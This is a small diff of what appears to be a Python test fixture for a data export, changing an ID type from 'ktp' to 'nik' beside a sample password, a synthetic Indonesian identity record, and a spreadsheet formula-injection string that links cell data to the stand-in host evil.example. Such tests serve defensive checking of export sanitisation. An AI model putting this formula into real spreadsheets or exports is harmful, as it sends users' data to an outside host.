@@ -21,7 +21,7 @@ PASSWORD = "rahasia-ekspor-1"
 INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
 IDENTITY = {
     "complainant_name": "Ratna Rahasia Wulandari",
-    "id_kind": "ktp",
+    "id_kind": "nik",
     "id_number": "3604123412341234",
     "address": "Kampung Rahasia RT 009",
     "phone": "081299990000",
